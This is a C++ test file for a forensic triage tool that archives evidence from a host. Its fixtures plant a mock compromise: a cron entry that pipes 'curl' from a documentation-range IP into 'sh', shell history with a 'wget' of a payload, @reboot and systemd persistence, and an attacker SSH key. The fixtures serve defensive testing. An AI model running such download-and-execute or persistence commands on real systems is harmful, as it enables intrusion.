// The triage bundle, read back with the system's own tools: a scratch ROOT with a planted
// account (passwd, authorized_keys, cron.d entry, crontab, bash history, sparse lastlog) goes
// through writeTriageBundle, and then `zstd -t`, `tar --zstd -t` and `tar --zstd -x` must accept
// the bundle, the planted files must come out byte for byte with their owner, mode and mtime,
// MANIFEST.json must be the last member and carry the SHA-256 that sha256sum computes, and the
// live tables must show this very process (its exe hash, its listening socket) and a process
// whose binary was deleted. Limits (member size, total size) must show in the manifest and
// still leave an archive that extracts; long and non-UTF-8 names and pre-1970 mtimes must
// survive (pax headers); an output that cannot be written is a clear error and leaves nothing
// behind (a missing directory; ENOSPC on a small tmpfs in a private mount namespace). Nothing
// outside the scratch directories is written; the live tables and firewall are only read.
#include "agent/os/triage.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include <utmp.h>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "absl/time/clock.h"
#include "common/crypto.h"
#include "gtest/gtest.h"
#include "tests/support/fleet.h"
#include "tests/support/mount_namespace.h"
#include "tests/support/process.h"
#include "tests/support/temp_dir.h"
#include "yaml-cpp/yaml.h"

namespace warden {
namespace {

namespace fs = std::filesystem;
using ::warden::testing::TempDir;

constexpr std::time_t kPlantedMtime = 1680674828;  // 2023-04-05T06:07:08Z
const std::string kKeys = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedByTheAttacker mallory@x\n";
const std::string kCronEvil = "* * * * * root curl -s http://198.51.100.7/x | sh\n";
const std::string kCrontab = "@reboot /tmp/.x/payload >/dev/null 2>&1\n";
const std::string kHistory = "id\nwget http://198.51.100.7/x -O /tmp/.x/payload\nrm \xff\xfe\n";

std::string readAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void plant(const std::string& path, const std::string& content, mode_t mode = 0644, uid_t uid = 0,
           gid_t gid = 0) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary | std::ios::trunc) << content;
  ASSERT_EQ(::chmod(path.c_str(), mode), 0) << path;
  ASSERT_EQ(::chown(path.c_str(), uid, gid), 0) << path;
  const timespec times[2] = {{kPlantedMtime, 0}, {kPlantedMtime, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, path.c_str(), times, AT_SYMLINK_NOFOLLOW), 0) << path;
}

std::string sha256sum(const std::string& path) {
  auto r = testing::run({"sha256sum", path});
  EXPECT_TRUE(r.ok() && r->exit_code == 0) << path;
  return r.ok() ? r->out.substr(0, 64) : "";
}

std::string randomText(std::size_t size, unsigned seed) {
  std::mt19937 rng(seed);
  std::string s(size, ' ');
  for (char& c : s) c = static_cast<char>('a' + rng() % 26);
  return s;
}

// A small host: root and mallory in passwd, mallory's keys, history and crontab, a cron.d
// entry, a symlink and a FIFO in cron.d, a unit enabled by a *.wants symlink, and lastlog
// with one login of mallory (uid 1002) as a sparse file.
void plantHost(const std::string& root) {
  plant(root + "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "mallory:x:1002:1002::/home/mallory:/bin/bash\n"
        "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n");
  plant(root + "/home/mallory/.ssh/authorized_keys", kKeys, 0600, 1002, 1002);
  ASSERT_EQ(::chmod((root + "/home/mallory/.ssh").c_str(), 0700), 0);
  ASSERT_EQ(::chown((root + "/home/mallory").c_str(), 1002, 1002), 0);
  plant(root + "/home/mallory/.bash_history", kHistory, 0600, 1002, 1002);
  plant(root + "/etc/cron.d/evil", kCronEvil);
  plant(root + "/var/spool/cron/crontabs/mallory", kCrontab, 0600, 1002, 1002);
  ASSERT_EQ(::symlink("/etc/passwd", (root + "/etc/cron.d/linked").c_str()), 0);
  ASSERT_EQ(::mkfifo((root + "/etc/cron.d/pipe").c_str(), 0600), 0);
  plant(root + "/etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/.x/payload\n");
  fs::create_directories(root + "/etc/systemd/system/multi-user.target.wants");
  ASSERT_EQ(::symlink("/etc/systemd/system/evil.service",
                      (root + "/etc/systemd/system/multi-user.target.wants/evil.service").c_str()),
            0);
  struct lastlog ll {};
  ll.ll_time = static_cast<std::int32_t>(kPlantedMtime);
  std::strncpy(ll.ll_line, "pts/1", sizeof(ll.ll_line) - 1);
  std::strncpy(ll.ll_host, "203.0.113.9", sizeof(ll.ll_host) - 1);
  fs::create_directories(root + "/var/log");
  const int fd = ::open((root + "/var/log/lastlog").c_str(), O_WRONLY | O_CREAT, 0664);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(::pwrite(fd, &ll, sizeof(ll), 1002 * sizeof(ll)), static_cast<ssize_t>(sizeof(ll)));
  ::close(fd);
}

TriageOptions scratchOptions(const std::string& root) {
  TriageOptions o;
  o.root = root;
  o.include_journal = false;
  o.command_timeout = absl::Seconds(20);
  return o;
}

// The bundle's member names in archive order, from `tar --zstd -tf`.
std::vector<std::string> listBundle(const std::string& bundle) {
  auto r = testing::run({"tar", "--zstd", "-tf", bundle}, absl::Seconds(60));
  EXPECT_TRUE(r.ok()) << r.status();
  if (!r.ok()) return {};
  EXPECT_EQ(r->exit_code, 0) << r->err;
  EXPECT_EQ(r->err, "");  // no warnings either (e.g. "A lone zero block")
  return absl::StrSplit(r->out, '\n', absl::SkipEmpty());
}

// Checks the compressed stream, extracts the bundle into `dir` and returns the manifest. tar
// must not complain, except with the warnings in `expected` (substrings of its stderr lines).
YAML::Node extractBundle(const std::string& bundle, const std::string& dir,
                         const std::vector<std::string>& expected = {}) {
  auto t = testing::run({"zstd", "-q", "-t", bundle}, absl::Seconds(60));
  EXPECT_TRUE(t.ok() && t->exit_code == 0) << (t.ok() ? t->err : t.status().ToString());
  fs::create_directories(dir);
  auto x = testing::run({"tar", "--zstd", "--numeric-owner", "-xf", bundle, "-C", dir},
                        absl::Seconds(60));
  EXPECT_TRUE(x.ok()) << x.status();
  if (!x.ok()) return {};
  EXPECT_EQ(x->exit_code, 0) << x->err;
  for (absl::string_view line : absl::StrSplit(x->err, '\n', absl::SkipEmpty())) {
    EXPECT_TRUE(std::any_of(expected.begin(), expected.end(), [&](const std::string& e) {
      return absl::StrContains(line, e);
    })) << line;
  }
  return YAML::LoadFile(dir + "/MANIFEST.json");
}

YAML::Node memberNamed(const YAML::Node& manifest, const std::string& name) {
  for (const YAML::Node& m : manifest["members"]) {
    if (m["name"].as<std::string>() == name) return m;
  }
  ADD_FAILURE() << name << " is not in the manifest";
  return YAML::Node();
}

bool hasLimit(const TriageResult& r, const std::string& text) {
  for (const std::string& l : r.limits_hit) {
    if (absl::StrContains(l, text)) return true;
  }
  return false;
}

std::string limitsText(const TriageResult& r) { return absl::StrJoin(r.limits_hit, "\n"); }

TEST(TriageTest, PlantedEvidenceComesBackExactly) {
  TempDir root, work;
  plantHost(root.path());
  // A listening socket of this process: it must show up with this pid as its owner.
  const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(listener, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ASSERT_EQ(::listen(listener, 1), 0);
  socklen_t len = sizeof(addr);
  ASSERT_EQ(::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string local = absl::StrCat("127.0.0.1:", ntohs(addr.sin_port));

  TriageOptions options = scratchOptions(root.path());
  options.include_journal = true;  // journalctl --root=SCRATCH: no journal there, still listed
  const std::string bundle = work.file("bundle.tar.zst");
  const absl::Time start = absl::Now();
  auto result = writeTriageBundle(bundle, options);
  const absl::Duration took = absl::Now() - start;
  ::close(listener);
  ASSERT_TRUE(result.ok()) << result.status();
  std::printf("bundle: %llu bytes of content, %llu bytes compressed, %zu members, %s\n",
              static_cast<unsigned long long>(result->content_bytes),
              static_cast<unsigned long long>(result->bundle_bytes), result->members.size(),
              absl::FormatDuration(took).c_str());
  // Nothing of the scratch host hits a limit; a live executable over 64 MiB may (its hash then
  // covers its first 64 MiB, and says so).
  for (const std::string& line : result->limits_hit) {
    EXPECT_TRUE(absl::StrContains(line, "executables")) << line;
  }
  EXPECT_EQ(testing::modeOf(bundle), 0600u);
  EXPECT_EQ(fs::file_size(bundle), result->bundle_bytes);
  // Nothing but the bundle is left in its directory (the scratch space is unnamed).
  EXPECT_EQ(std::distance(fs::directory_iterator(work.path()), fs::directory_iterator()), 1);

  const std::vector<std::string> names = listBundle(bundle);
  ASSERT_FALSE(names.empty());
  EXPECT_EQ(names.back(), "MANIFEST.json");
  const std::string out = work.file("out");
  const YAML::Node manifest = extractBundle(bundle, out);
  ASSERT_TRUE(manifest.IsMap());
  EXPECT_EQ(manifest["schema"].as<std::string>(), kTriageManifestSchema);
  EXPECT_EQ(readAll(out + "/MANIFEST.json"), result->manifest_json);
  EXPECT_EQ(manifest["members"].size(), result->members.size());
  EXPECT_EQ(manifest["limits"]["max_member_bytes"].as<std::uint64_t>(), 64ull << 20);

  // The planted files: exact bytes, SHA-256 as sha256sum says, owner, mode and mtime.
  struct Planted {
    std::string path;
    std::string content;
    std::string mode;
    unsigned uid;
  };
  for (const Planted& p : {Planted{"/home/mallory/.ssh/authorized_keys", kKeys, "0600", 1002},
                           Planted{"/home/mallory/.bash_history", kHistory, "0600", 1002},
                           Planted{"/etc/cron.d/evil", kCronEvil, "0644", 0},
                           Planted{"/var/spool/cron/crontabs/mallory", kCrontab, "0600", 1002}}) {
    SCOPED_TRACE(p.path);
    const std::string extracted = out + "/files" + p.path;
    EXPECT_EQ(readAll(extracted), p.content);
    const YAML::Node m = memberNamed(manifest, "files" + p.path);
    ASSERT_TRUE(m.IsMap());
    EXPECT_EQ(m["sha256"].as<std::string>(), sha256sum(root.path() + p.path));
    EXPECT_EQ(m["type"].as<std::string>(), "file");
    EXPECT_EQ(m["source"].as<std::string>(), p.path);
    EXPECT_EQ(m["size"].as<std::uint64_t>(), p.content.size());
    EXPECT_FALSE(m["truncated"].as<bool>());
    EXPECT_EQ(m["error"].as<std::string>(), "");
    EXPECT_EQ(m["mode"].as<std::string>(), p.mode);
    EXPECT_EQ(m["uid"].as<unsigned>(), p.uid);
    EXPECT_EQ(m["mtime"].as<std::string>(), "2023-04-05T06:07:08Z");
    struct stat st {};
    ASSERT_EQ(::stat(extracted.c_str(), &st), 0);
    EXPECT_EQ(st.st_uid, p.uid);
    EXPECT_EQ(st.st_mtim.tv_sec, kPlantedMtime);
  }
  // Symlinks are recorded, never followed; the FIFO is listed, never opened.
  EXPECT_EQ(fs::read_symlink(out + "/files/etc/cron.d/linked"), "/etc/passwd");
  EXPECT_EQ(memberNamed(manifest, "files/etc/cron.d/linked")["link_target"].as<std::string>(),
            "/etc/passwd");
  EXPECT_EQ(fs::read_symlink(out + "/files/etc/systemd/system/multi-user.target.wants/"
                                   "evil.service"),
            "/etc/systemd/system/evil.service");
  const YAML::Node fifo = memberNamed(manifest, "files/etc/cron.d/pipe");
  EXPECT_EQ(fifo["type"].as<std::string>(), "special");
  EXPECT_FALSE(fifo["archived"].as<bool>());
  EXPECT_FALSE(fs::exists(fs::symlink_status(out + "/files/etc/cron.d/pipe")));
  EXPECT_TRUE(fs::is_directory(out + "/files/home/mallory/.ssh"));
  EXPECT_EQ(memberNamed(manifest, "files/home/mallory/")["uid"].as<unsigned>(), 1002u);
  EXPECT_EQ(testing::modeOf(out + "/files/home/mallory/.ssh"), 0700u);
  // Fixed sources are listed even when absent: that they were looked for is evidence too.
  EXPECT_EQ(memberNamed(manifest, "files/etc/passwd")["type"].as<std::string>(), "file");
  const YAML::Node crontab = memberNamed(manifest, "files/etc/crontab");
  EXPECT_EQ(crontab["type"].as<std::string>(), "absent");
  EXPECT_TRUE(crontab["mtime"].IsNull());

  // The live tables: this process, with the SHA-256 of its own executable, and its socket.
  const YAML::Node processes = YAML::LoadFile(out + "/commands/processes.json");
  ASSERT_TRUE(processes.IsSequence());
  const std::string self_exe = fs::read_symlink("/proc/self/exe");
  bool found_self = false;
  for (const YAML::Node& p : processes) {
    if (p["pid"].as<int>() != ::getpid()) continue;
    found_self = true;
    EXPECT_EQ(p["exe"].as<std::string>(), self_exe);
    EXPECT_EQ(p["exe_sha256"].as<std::string>(), sha256sum(self_exe));
    EXPECT_FALSE(p["exe_deleted"].as<bool>());
    EXPECT_FALSE(p["kernel_thread"].as<bool>());
    EXPECT_EQ(p["ppid"].as<int>(), ::getppid());
    EXPECT_EQ(p["uid"].as<unsigned>(), ::getuid());
    EXPECT_EQ(p["cwd"].as<std::string>(), fs::current_path().string());
    EXPECT_EQ(p["cmdline"][0].as<std::string>(), readAll("/proc/self/cmdline").c_str());
  }
  EXPECT_TRUE(found_self);
  const YAML::Node sockets = YAML::LoadFile(out + "/commands/sockets.json");
  ASSERT_TRUE(sockets.IsSequence());
  bool found_socket = false;
  for (const YAML::Node& s : sockets) {
    if (s["proto"].as<std::string>() != "tcp" || s["local"].as<std::string>() != local) continue;
    found_socket = true;
    EXPECT_EQ(s["state"].as<std::string>(), "LISTEN");
    ASSERT_EQ(s["pids"].size(), 1u);
    EXPECT_EQ(s["pids"][0].as<int>(), ::getpid());
  }
  EXPECT_TRUE(found_socket) << local;
  const YAML::Node lastlog = YAML::LoadFile(out + "/commands/lastlog.json");
  ASSERT_EQ(lastlog.size(), 1u);
  EXPECT_EQ(lastlog[0]["uid"].as<int>(), 1002);
  EXPECT_EQ(lastlog[0]["host"].as<std::string>(), "203.0.113.9");
  EXPECT_EQ(lastlog[0]["time"].as<std::string>(), "2023-04-05T06:07:08Z");

  // The kernel's own files and the tools' outputs.
  EXPECT_EQ(readAll(out + "/commands/mountinfo.txt").empty(), false);
  if (fs::exists("/proc/modules")) {
    // Names only: the use counts change whenever anything (nft, a test's namespace) comes or
    // goes between the two reads.
    const auto names = [](const std::string& table) {
      std::vector<std::string> out;
      for (absl::string_view line : absl::StrSplit(table, '\n', absl::SkipEmpty())) {
        out.emplace_back(line.substr(0, line.find(' ')));
      }
      return out;
    };
    EXPECT_EQ(names(readAll(out + "/commands/modules.txt")), names(readAll("/proc/modules")));
  } else {  // a kernel without module support: listed with the reason
    const YAML::Node modules = memberNamed(manifest, "commands/modules.txt");
    EXPECT_FALSE(modules["archived"].as<bool>());
    EXPECT_TRUE(absl::StrContains(modules["error"].as<std::string>(), "No such file"));
  }
  EXPECT_TRUE(fs::exists(out + "/commands/tainted.txt"));
  const YAML::Node host = YAML::LoadFile(out + "/commands/host.json");
  EXPECT_EQ(host["boot_id"].as<std::string>() + "\n", readAll("/proc/sys/kernel/random/boot_id"));
  EXPECT_EQ(memberNamed(manifest, "commands/nft-ruleset.txt")["type"].as<std::string>(), "output");
  const YAML::Node journal = memberNamed(manifest, "commands/journal.txt");
  EXPECT_TRUE(absl::StrContains(journal["source"].as<std::string>(), "-o export"));
}

TEST(TriageTest, DeletedExecutableStillHashes) {
  TempDir root, work;
  plant(root.path() + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  const std::string copy = work.file("implant");
  fs::copy_file("/bin/sleep", copy);
  ASSERT_EQ(::chmod(copy.c_str(), 0755), 0);
  const std::string expected = sha256sum(copy);
  auto implant = testing::Process::start({copy, "120"});
  ASSERT_TRUE(implant.ok()) << implant.status();
  // Wait until it runs the copy (not the harness that starts it) before deleting the file.
  for (int i = 0; i < 500; ++i) {
    std::error_code ec;
    if (fs::read_symlink(absl::StrCat("/proc/", (*implant)->pid(), "/exe"), ec) == copy) break;
    ::usleep(10000);
  }
  ASSERT_EQ(::unlink(copy.c_str()), 0);

  const std::string bundle = work.file("bundle.tar.zst");
  auto result = writeTriageBundle(bundle, scratchOptions(root.path()));
  ASSERT_TRUE(result.ok()) << result.status();
  const YAML::Node manifest = extractBundle(bundle, work.file("out"));
  const YAML::Node processes = YAML::LoadFile(work.file("out") + "/commands/processes.json");
  bool found = false;
  for (const YAML::Node& p : processes) {
    if (p["pid"].as<int>() != (*implant)->pid()) continue;
    found = true;
    EXPECT_EQ(p["exe"].as<std::string>(), copy + " (deleted)");
    EXPECT_TRUE(p["exe_deleted"].as<bool>());
    EXPECT_EQ(p["exe_sha256"].as<std::string>(), expected);
    EXPECT_EQ(p["cmdline"][1].as<std::string>(), "120");
  }
  EXPECT_TRUE(found);
}

TEST(TriageTest, MemberLimitTruncatesExplicitly) {
  TempDir root, work;
  plantHost(root.path());
  const std::string big = randomText(100000, 7);
  plant(root.path() + "/home/mallory/.bash_history", big, 0600, 1002, 1002);
  TriageOptions options = scratchOptions(root.path());
  options.limits.max_member_bytes = 4096;
  const std::string bundle = work.file("bundle.tar.zst");
  auto result = writeTriageBundle(bundle, options);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_TRUE(hasLimit(*result,
                       "files/home/mallory/.bash_history truncated at 4096 of 100000 "
                       "bytes (max_member_bytes)"))
      << limitsText(*result);

  EXPECT_EQ(listBundle(bundle).back(), "MANIFEST.json");
  const std::string out = work.file("out");
  const YAML::Node manifest = extractBundle(bundle, out);
  const YAML::Node m = memberNamed(manifest, "files/home/mallory/.bash_history");
  ASSERT_TRUE(m.IsMap());
  EXPECT_TRUE(m["truncated"].as<bool>());
  EXPECT_EQ(m["size"].as<std::uint64_t>(), 4096u);
  EXPECT_EQ(m["source_size"].as<std::uint64_t>(), 100000u);
  EXPECT_EQ(readAll(out + "/files/home/mallory/.bash_history"), big.substr(0, 4096));
  EXPECT_EQ(m["sha256"].as<std::string>(), crypto::hex(crypto::sha256(big.substr(0, 4096))));
  const std::vector<std::string> hit = manifest["limits_hit"].as<std::vector<std::string>>();
  EXPECT_EQ(hit, result->limits_hit);
  // Small files are whole; the generated tables stay valid JSON even when cut short.
  EXPECT_EQ(readAll(out + "/files/home/mallory/.ssh/authorized_keys"), kKeys);
  EXPECT_TRUE(YAML::LoadFile(out + "/commands/processes.json").IsSequence());
  for (const YAML::Node& member : manifest["members"]) {
    EXPECT_LE(member["size"].as<std::uint64_t>(), 4096u) << member["name"].as<std::string>();
  }
}

TEST(TriageTest, TotalLimitListsWhatIsLeftOut) {
  TempDir root, work;
  plantHost(root.path());
  // The live tables (processes, sockets, mounts) come first and their size is the machine's: on
  // a quiet one they leave room under 16 KiB. A crontab bigger than the whole limit, collected
  // before any home directory, makes sure the limit is spent before authorized_keys either way.
  plant(root.path() + "/etc/crontab", std::string(32768, '#'));
  TriageOptions options = scratchOptions(root.path());
  options.limits.max_total_bytes = 16384;
  const std::string bundle = work.file("bundle.tar.zst");
  auto result = writeTriageBundle(bundle, options);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_LE(result->content_bytes, 16384u);
  EXPECT_TRUE(hasLimit(*result, "max_total_bytes (16384) reached")) << limitsText(*result);
  const std::string out = work.file("out");
  const YAML::Node manifest = extractBundle(bundle, out);
  EXPECT_EQ(listBundle(bundle).back(), "MANIFEST.json");
  const YAML::Node keys = memberNamed(manifest, "files/home/mallory/.ssh/authorized_keys");
  ASSERT_TRUE(keys.IsMap());
  EXPECT_FALSE(keys["archived"].as<bool>());
  EXPECT_EQ(keys["error"].as<std::string>(), "not collected: total size limit reached");
  EXPECT_EQ(keys["source_size"].as<std::uint64_t>(), kKeys.size());
  EXPECT_FALSE(fs::exists(out + "/files/home/mallory/.ssh/authorized_keys"));
  std::uint64_t sum = 0;
  for (const YAML::Node& member : manifest["members"]) sum += member["size"].as<std::uint64_t>();
  EXPECT_EQ(sum, result->content_bytes);
}

TEST(TriageTest, MemberCountLimitIsReported) {
  TempDir root, work;
  plantHost(root.path());
  TriageOptions options = scratchOptions(root.path());
  options.limits.max_members = 12;
  const std::string bundle = work.file("bundle.tar.zst");
  auto result = writeTriageBundle(bundle, options);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(result->members.size(), 12u);
  EXPECT_TRUE(hasLimit(*result, "max_members (12) reached")) << limitsText(*result);
  const YAML::Node manifest = extractBundle(bundle, work.file("out"));
  EXPECT_EQ(manifest["members"].size(), 12u);
}

TEST(TriageTest, LongAndOddNamesSurvive) {
  TempDir root, work;
  plant(root.path() + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  const std::string long_dir =
      "/etc/systemd/system/" + std::string(60, 'd') + "/" + std::string(60, 'e');
  const std::string long_file = long_dir + "/" + std::string(80, 'f') + ".service";
  plant(root.path() + long_file, "[Service]\nExecStart=/bin/true\n");
  const std::string long_target = "/opt/" + std::string(150, 't');
  fs::create_directories(root.path() + "/etc/cron.d");
  ASSERT_EQ(::symlink(long_target.c_str(), (root.path() + "/etc/cron.d/long-link").c_str()), 0);
  const std::string odd = "/etc/cron.d/odd\xff\xfe";
  plant(root.path() + odd, "odd\n");
  const std::string odd_long = "/etc/cron.d/" + std::string(100, 'o') + "\xff";
  plant(root.path() + odd_long, "odd and long\n");
  // Timestomped to before the epoch: ustar cannot say that, pax can.
  plant(root.path() + "/etc/cron.d/old", "old\n");
  const timespec before_1970[2] = {{-86400, 0}, {-86400, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, (root.path() + "/etc/cron.d/old").c_str(), before_1970, 0), 0);

  const std::string bundle = work.file("bundle.tar.zst");
  auto result = writeTriageBundle(bundle, scratchOptions(root.path()));
  ASSERT_TRUE(result.ok()) << result.status();
  const std::string out = work.file("out");
  // GNU tar warns about a date before 1970 (and sets it), and does not know pax's hdrcharset
  // (POSIX: the raw bytes of a name that is not UTF-8 are BINARY), which it needs no more than
  // its own raw names: the name comes out right all the same.
  const YAML::Node manifest =
      extractBundle(bundle, out, {"implausibly old time stamp", "keyword 'hdrcharset'"});
  EXPECT_GT(std::string("files" + long_file).size(), 100u);
  EXPECT_EQ(readAll(out + "/files" + long_file), "[Service]\nExecStart=/bin/true\n");
  EXPECT_EQ(memberNamed(manifest, "files" + long_file)["sha256"].as<std::string>(),
            sha256sum(root.path() + long_file));
  EXPECT_EQ(fs::read_symlink(out + "/files/etc/cron.d/long-link").string(), long_target);
  EXPECT_EQ(readAll(out + "/files" + odd), "odd\n");
  EXPECT_EQ(readAll(out + "/files" + odd_long), "odd and long\n");
  // The manifest stays valid JSON: U+FFFD in the text, the raw bytes in hex.
  bool found_odd = false;
  for (const YAML::Node& m : manifest["members"]) {
    if (m["name_hex"] && m["name_hex"].as<std::string>() == crypto::hex("files" + odd)) {
      found_odd = true;
      EXPECT_EQ(m["name"].as<std::string>(), "files/etc/cron.d/odd\xef\xbf\xbd\xef\xbf\xbd");
    }
  }
  EXPECT_TRUE(found_odd);
  struct stat st {};
  ASSERT_EQ(::stat((out + "/files/etc/cron.d/old").c_str(), &st), 0);
  EXPECT_EQ(st.st_mtim.tv_sec, -86400);
  EXPECT_EQ(memberNamed(manifest, "files/etc/cron.d/old")["mtime"].as<std::string>(),
            "1969-12-31T00:00:00Z");
}

TEST(TriageTest, UnwritableOutputIsAClearErrorAndLeavesNothing) {
  TempDir root, work;
  plant(root.path() + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  const std::string missing = work.file("no/such/dir/bundle.tar.zst");
  auto result = writeTriageBundle(missing, scratchOptions(root.path()));
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), absl::StatusCode::kNotFound) << result.status();
  EXPECT_TRUE(absl::StrContains(result.status().message(), missing)) << result.status();
  EXPECT_FALSE(fs::exists(work.file("no")));

  // An existing file is never overwritten, nor removed.
  const std::string existing = work.file("existing.tar.zst");
  plant(existing, "precious");
  result = writeTriageBundle(existing, scratchOptions(root.path()));
  EXPECT_EQ(result.status().code(), absl::StatusCode::kAlreadyExists) << result.status();
  EXPECT_EQ(readAll(existing), "precious");

  // A root that does not exist is refused before anything is written.
  const std::string out = work.file("bundle.tar.zst");
  result = writeTriageBundle(out, scratchOptions(root.file("nope")));
  EXPECT_EQ(result.status().code(), absl::StatusCode::kInvalidArgument) << result.status();
  EXPECT_FALSE(fs::exists(out));
}

// ENOSPC for real: a 1 MiB tmpfs, mounted in a private mount namespace of a child process (so
// it is gone with the child), and 4 MiB of incompressible log to write into it.
TEST(TriageTest, FullDiskIsResourceExhaustedAndLeavesNothing) {
  WARDEN_REQUIRE_PRIVILEGES();
  TempDir root, work;
  plantHost(root.path());
  std::mt19937_64 rng(11);
  std::string noise(4 << 20, '\0');
  for (char& c : noise) c = static_cast<char>(rng());
  plant(root.path() + "/var/log/auth.log", noise, 0640);
  const std::string small = work.file("small");
  fs::create_directories(small);
  const std::string bundle = small + "/bundle.tar.zst";

  const std::string verdict = testing::runInPrivateMountNamespace([&]() -> std::string {
    if (::mount("tmpfs", small.c_str(), "tmpfs", 0, "size=1m") != 0) {
      return absl::StrCat("set-up failed: ", std::strerror(errno));
    }
    auto result = writeTriageBundle(bundle, scratchOptions(root.path()));
    const bool empty = fs::is_empty(small);
    ::umount(small.c_str());
    if (result.ok()) return "bundle written on a full disk";
    if (result.status().code() != absl::StatusCode::kResourceExhausted ||
        !absl::StrContains(result.status().message(), bundle)) {
      return absl::StrCat("wrong error: ", result.status().ToString());
    }
    if (!empty) return "files left behind";
    return absl::StrCat("ok ", result.status().message());
  });
  std::printf("%s\n", verdict.c_str());
  EXPECT_TRUE(absl::StartsWith(verdict, "ok ")) << verdict;
  EXPECT_TRUE(fs::is_empty(small));
}

}  // namespace
}  // namespace warden
